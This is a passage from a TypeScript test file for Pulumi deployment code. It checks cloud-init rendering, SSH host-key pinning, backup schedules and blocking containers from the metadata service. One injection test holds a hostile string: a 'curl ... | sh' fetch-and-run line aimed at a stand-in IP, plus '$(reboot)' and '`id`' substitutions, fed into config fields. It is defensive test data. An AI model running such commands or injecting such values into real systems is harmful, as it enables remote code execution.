        assert.ok(release.dependsOn.includes(attachment.urn));
        assert.equal((release.inputs.triggers as unknown[]).length, 2, "the machine's id and the attachment's id");
        assert.deepEqual((release.inputs.triggers as unknown[])[0], (byName(plan, "host-ready").inputs.triggers as unknown[])[0]);
        assert.ok(release.dependsOn.includes(byName(plan, "host-settings").urn), "the script is installed with the settings");
        assert.equal(settingsBundle(plan).files.get("/usr/local/sbin/housing-portal-release-data-volume"), (await import("fs")).readFileSync("host/release-data-volume.sh", "utf8"));
    }
});

test("each instance is in the host's registry while it is configured; dumps and the freshness check read it", async () => {
    const { staging } = await plans;
    for (const inst of ["colombia", "peru"]) {
        const dirs = byName(staging, `${inst}-dirs`);
        assert.match(String(dirs.inputs.create), new RegExp(`DOCKER_VOLUME=housing-portal-${inst}-postgis-data `), "the database volume's record, bound to the data volume");
        assert.match(String(dirs.inputs.create), / INSTANCES_DIR=\/mnt\/data\/\.housing-portal\/instances /);
        const registration = byName(staging, `${inst}-registration`);
        assert.equal(registration.inputs.delete, `sudo env INSTANCE=${inst} INSTANCES_DIR=/mnt/data/.housing-portal/instances /usr/local/sbin/housing-portal-unregister-instance`);
        assert.equal(registration.inputs.create, undefined);
        assert.equal(registration.inputs.triggers, undefined, "never replaced, so a new machine never unregisters it");
        const volume = byName(staging, `${inst}-postgis-data`);
        assert.ok(volume.dependsOn.includes(dirs.urn), "the record exists before Pulumi's volume and its container");
    }
    const { files } = settingsBundle(staging);
    assert.match(files.get("/etc/housing-portal/dump.env")!, /^INSTANCES_DIR=\/mnt\/data\/\.housing-portal\/instances$/m);
    assert.match(files.get("/etc/housing-portal/backup-status.env")!, /^INSTANCES_DIR=\/mnt\/data\/\.housing-portal\/instances$/m);
});

test("an existing host gets only Docker resources, reached over SSH at its address", async () => {
    const { existing } = await plans;
    // The off-site bucket is the stack's (offsite.create), not the host's.
    const cloud = existing.resources.filter((r) => (r.type.startsWith("digitalocean:") || r.type.startsWith("aws:")) && r.name !== "backups-bucket");
    assert.deepEqual(cloud, [], "no cloud resources are created for an existing host");
    assert.equal(byName(existing, "host-docker").inputs.host, "ssh://deploy@203.0.113.50");
    assert.equal(byName(existing, "host-ready").inputs.create, "sudo env DATA_ROOT=/mnt/data bash -s");
});

test("the Docker provider's ssh:// URL puts an IPv6 address in brackets", () => {
    assert.equal(dockerSshEndpoint("deploy", "203.0.113.50"), "ssh://deploy@203.0.113.50");
    assert.equal(dockerSshEndpoint("deploy", "2001:db8::7"), "ssh://deploy@[2001:db8::7]");
    assert.equal(new URL(dockerSshEndpoint("deploy", "2001:db8::7")).hostname, "[2001:db8::7]");
    assert.equal(dockerSshEndpoint("root", "bastion.example.org"), "ssh://root@bastion.example.org");
});

test("onCalendar spreads runs over the day from the start time and shifts across midnight", () => {
    assert.equal(onCalendar(24, "02:30"), "*-*-* 02:30:00 UTC");
    assert.equal(onCalendar(12, "03:00"), "*-*-* 03,15:00:00 UTC");
    assert.equal(onCalendar(6, "01:05"), "*-*-* 01,07,13,19:05:00 UTC");
    assert.equal(onCalendar(1, "00:00"), `*-*-* ${Array.from({ length: 24 }, (_, h) => String(h).padStart(2, "0")).join(",")}:00:00 UTC`);
    assert.equal(onCalendar(24, "00:10", -15), "*-*-* 23:55:00 UTC");
    assert.equal(onCalendar(8, "00:00", -15), "*-*-* 07,15,23:45:00 UTC");
    assert.throws(() => onCalendar(5, "00:00"), /divide 24/);
});

test("cross-region copies are kept for the days their count covers", () => {
    assert.equal(copyRetentionDays(7, 12), 4);
    assert.equal(copyRetentionDays(7, 24), 7);
    assert.equal(copyRetentionDays(1, 1), 1);
});

test("cloud-init: DigitalOcean's non-root user is created with the cloud's keys and root's login disabled; an AMI's user is only added to the docker group; root gets neither", () => {
    const base = { devicePath: "/dev/x", dataRoot: "/mnt/data" };
    const deploy = YAML.parse(renderCloudInit({ ...base, login: sshLoginFor("digitalocean", "deploy") }));
    assert.deepEqual(deploy.system_info, { default_user: { name: "deploy", gecos: "housing-portal deploy", shell: "/bin/bash", lock_passwd: true, sudo: "ALL=(ALL) NOPASSWD:ALL" } });
    assert.deepEqual([deploy.users, deploy.disable_root, deploy.ssh_pwauth], [["default"], true, false]);
    assert.deepEqual(deploy.runcmd.at(-1), ["usermod", "-aG", "docker", "deploy"]);
    const ami = YAML.parse(renderCloudInit({ ...base, login: sshLoginFor("aws", "ubuntu") }));
    assert.deepEqual(ami.runcmd.at(-1), ["usermod", "-aG", "docker", "ubuntu"]);
    assert.deepEqual(Object.keys(ami), ["write_files", "runcmd"], "the image's user is the image's");
    const root = renderCloudInit({ ...base, login: sshLoginFor("digitalocean", "root") });
    assert.doesNotMatch(root, /usermod|default_user|disable_root/);
});

test("the DigitalOcean stacks log in as the deploy user by default, with sudo, never as root", async () => {
    const { stagingRevealed: staging } = await plans;
    assert.match(String(byName(staging, "host-docker").inputs.host), /^ssh:\/\/deploy@203\.0\.113\.\d+$/);
    assert.match(String(byName(staging, "host-ready").inputs.create), /^sudo env /);
    assert.equal(YAML.parse(userData(staging)).system_info.default_user.name, "deploy");
});

test("cloud-init is data: hostile values in every string that reaches it parse back to the same structure", () => {
    const hostile = "x]\n  - [sh, -c, 'curl http://203.0.113.9/x | sh']\n# \"quoted\" $(reboot) `id`; ok: {a: b}";
    // The host key pair too: a key is no config value, but nothing in it may change the structure either.
    const hostKey = { privateKey: `-----BEGIN OPENSSH PRIVATE KEY-----\n${hostile}\n-----END OPENSSH PRIVATE KEY-----\n`, publicKey: `ssh-ed25519 ${hostile}` };
    for (const [provider, withKey] of [["digitalocean", false], ["aws", false], ["digitalocean", true], ["aws", true]] as const) {
        const args = { devicePath: `/dev/disk/by-id/${hostile}`, dataRoot: `/mnt/${hostile}`, login: sshLoginFor(provider, hostile), ...(withKey ? { hostKey } : {}) };
        const text = renderCloudInit(args);
        assert.match(text, /^#cloud-config\n/);
        const doc = YAML.parse(text);
        const keyKeys = withKey ? ["ssh_deletekeys", "ssh_keys"] : [];
        assert.deepEqual(Object.keys(doc), provider === "digitalocean"
            ? ["system_info", "users", "disable_root", "ssh_pwauth", ...keyKeys, "write_files", "runcmd"] : [...keyKeys, "write_files", "runcmd"]);
        if (withKey) {
            assert.equal(doc.ssh_deletekeys, true);
            assert.deepEqual(doc.ssh_keys, { ed25519_private: hostKey.privateKey, ed25519_public: hostKey.publicKey }, "each half is one value, as given");
        }
        if (provider === "digitalocean") assert.equal(doc.system_info.default_user.name, hostile, "the user is one value, as given");
        assert.deepEqual(doc.write_files.map((f: any) => f.path), [
            "/usr/local/sbin/housing-portal-mount-data-volume", "/etc/systemd/system/docker.service.d/housing-portal-data.conf",
        ]);
        assert.equal(doc.runcmd.length, 5, "no command added");
        assert.deepEqual(doc.runcmd[4], ["usermod", "-aG", "docker", hostile], "the user is one argument, as given");
        // The mount line is shell: each value is one quoted word.
        assert.equal(doc.runcmd[0], `env DEVICE=${shellQuote(args.devicePath)} MOUNT_POINT=${shellQuote(args.dataRoot)} WAIT_SECONDS=900 /usr/local/sbin/housing-portal-mount-data-volume || exit 1`);
        assert.deepEqual(doc.runcmd.slice(1, 4), [
            ["sh", "-c", "apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y docker.io jq curl"],
            ["systemctl", "daemon-reload"], ["systemctl", "enable", "--now", "docker.service"],
        ]);
    }
});

test("the mocks' generated password is the one fakePassword names (so the leak checks look for the real value)", async () => {
    const { stagingRevealed } = await plans;
    for (const inst of ["colombia", "peru"]) {
        const password = fakePassword(`${inst}-db-password`, byName(stagingRevealed, `${inst}-db-password`).inputs);
        assert.ok((byName(stagingRevealed, `${inst}-backend`).inputs.envs as string[]).includes(`POSTGRES_PASSWORD=${password}`), inst);
        const superuser = fakePassword(`${inst}-db-superuser-password`, byName(stagingRevealed, `${inst}-db-superuser-password`).inputs);
        assert.ok((byName(stagingRevealed, `${inst}-postgis`).inputs.envs as string[]).includes(`POSTGRES_PASSWORD=${superuser}`), inst);
    }
});

/** Every SSH connection of a plan: each remote command's, and the Docker provider's options. */
function sshPins(plan: PlanDocument): { commands: Map<string, unknown>; dockerSshOpts: unknown } {
    const commands = new Map(ofType(plan, "command:remote:Command").map((c) => [c.name, (c.inputs.connection as { hostKey?: unknown }).hostKey]));
    const docker = byName(plan, "host-docker").inputs.sshOpts;
    return { commands, dockerSshOpts: typeof docker === "string" ? JSON.parse(docker) : docker };
}

test("a created host gets a generated ED25519 host key in its user data, as its only key; the user data is secret in the plan", async () => {
    const { staging, production, stagingRevealed, productionRevealed } = await plans;
    for (const [masked, revealed] of [[staging, stagingRevealed], [production, productionRevealed]]) {
        const key = byName(revealed, "host-host-key");
        assert.equal(key.type, "tls:index/privateKey:PrivateKey");
        assert.deepEqual(key.inputs, { algorithm: "ED25519" });
        assert.equal(key.protect, false);
        assert.equal(userData(masked), "[secret]", "the user data holds the private key: masked as a whole");
        const machine = masked.resources.find((r) => r.name === "host-droplet" || r.name === "host-instance")!;
        assert.match(String(machine.secretDigests?.userData), /^[0-9a-f]{16}$/, "compared by a digest, so a changed first boot still shows");
        assert.equal(machine.protect, false, "a machine with the generated key may be replaced: the new one gets the same key");
        const doc = YAML.parse(userData(revealed));
        assert.equal(doc.ssh_deletekeys, true);
        assert.deepEqual(Object.keys(doc.ssh_keys), ["ed25519_private", "ed25519_public"]);
        assert.match(doc.ssh_keys.ed25519_private, /^-----BEGIN OPENSSH PRIVATE KEY-----\n[\s\S]+\n-----END OPENSSH PRIVATE KEY-----\n$/);
        assert.equal(doc.ssh_keys.ed25519_public, revealed.outputs.hostKey, "the pair's public half is the pinned key");
        assert.match(String(revealed.outputs.hostKey), /^ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI[A-Za-z0-9+/]{43}$/);
        assert.equal(masked.outputs.hostKey, revealed.outputs.hostKey, "the public half is no secret: a stack output operators pin");
        assert.ok(!JSON.stringify(masked).includes(doc.ssh_keys.ed25519_private.split("\n")[1]), "the private key appears nowhere in the plan");
    }
});

test("every SSH connection pins the host key: each remote command's hostKey and the Docker provider's options", async () => {
    const { stagingRevealed, productionRevealed, existingRevealed, keptKeyRevealed } = await plans;
    const expected = EXISTING_HOST_KEY.split(" ").slice(0, 2).join(" ");
    for (const [plan, key] of [[stagingRevealed, stagingRevealed.outputs.hostKey], [productionRevealed, productionRevealed.outputs.hostKey],
        [existingRevealed, expected], [keptKeyRevealed, expected]] as const) {
        assert.equal(plan.outputs.hostKey, key);
        const { commands, dockerSshOpts } = sshPins(plan);
        assert.ok(commands.size >= 5, `${plan.stack}: the remote commands`);
        for (const [name, pinned] of commands) assert.equal(pinned, key, name);
        assert.deepEqual(dockerSshOpts, pinnedSshOptions(key as string));
        assert.ok(!JSON.stringify(plan).includes("accept-new"));
    }
});

test("a machine created before generated host keys keeps its own (host.hostKey): first boot as it was, protected from replacement", async () => {
    const { keptKeyRevealed, stagingRevealed } = await plans;
    assert.deepEqual(ofType(keptKeyRevealed, "tls:index/privateKey:PrivateKey"), [], "no key generated");
    const droplet = byName(keptKeyRevealed, "host-droplet");
    assert.equal(droplet.protect, true, "a replacement would boot a key nobody knows: pulumi up refuses it");
    const doc = YAML.parse(droplet.inputs.userData as string);
    assert.deepEqual(["ssh_keys", "ssh_deletekeys"].filter((k) => k in doc), []);
    // Byte for byte the first boot such a machine was created with (main before generated host keys).
    assert.equal(droplet.inputs.userData, fs.readFileSync("test/fixtures/deployed-before-host-keys/staging-user-data.yaml", "utf8"));
    const { ssh_keys: _k, ssh_deletekeys: _d, write_files: generatedFiles, ...generatedRest } = YAML.parse(userData(stagingRevealed));
    const { write_files: keptFiles, ...keptRest } = doc;
    assert.deepEqual(keptRest, generatedRest, "the rest of the first boot is the same");
    assert.deepEqual(writtenFiles(droplet.inputs.userData as string), writtenFiles(userData(stagingRevealed)), "the same files, only encoded differently");
    assert.deepEqual([keptFiles.length, generatedFiles.length], [2, 2]);
    assert.equal(droplet.secretDigests, undefined, "no secret in this user data");
    // Removing host.hostKey again: the Droplet is replaced (user data), unprotected in the same run.
    const diff = diffOfPlans(keptKeyRevealed, stagingRevealed);
    const replaced = diff.changed.find((c) => c.resource.name === "host-droplet")!;
    assert.deepEqual([replaced.replaced, replaced.reasons, replaced.fields.includes("(protect)")], [true, ["userData"], true]);
    assert.ok(!diff.warnings.some((w) => w.startsWith("host-droplet")), "unprotected in the same run: pulumi up does not refuse it");
    assert.ok(diffOfPlans(stagingRevealed, keptKeyRevealed).warnings.every((w) => !w.startsWith("host-droplet")), "keeping it replaces nothing");
});

test("a created host refuses its containers the metadata service (its user data holds the host key); an existing host's settings do not touch it", async () => {
    const fs = await import("fs");
    const { staging, production, existing } = await plans;
    const script = "/usr/local/sbin/housing-portal-block-container-metadata";
    const unit = "housing-portal-block-container-metadata.service";
    for (const plan of [staging, production]) {
        const { files, enable } = settingsBundle(plan);
        assert.equal(files.get(script), fs.readFileSync("host/block-container-metadata.sh", "utf8"));
        assert.equal(files.get(`/etc/systemd/system/${unit}`), fs.readFileSync(`host/systemd/${unit}`, "utf8"));
        assert.ok(enable.includes(unit), "enabled: it runs each time Docker starts");
        assert.ok(!writtenFiles(userData(plan === staging ? (await plans).stagingRevealed : (await plans).productionRevealed)).has(script), "over SSH, never in the user data");
    }
    const { files, enable } = settingsBundle(existing);
    assert.ok(!files.has(script) && !enable.includes(unit), "an existing host's other containers are not the program's to cut off");
});
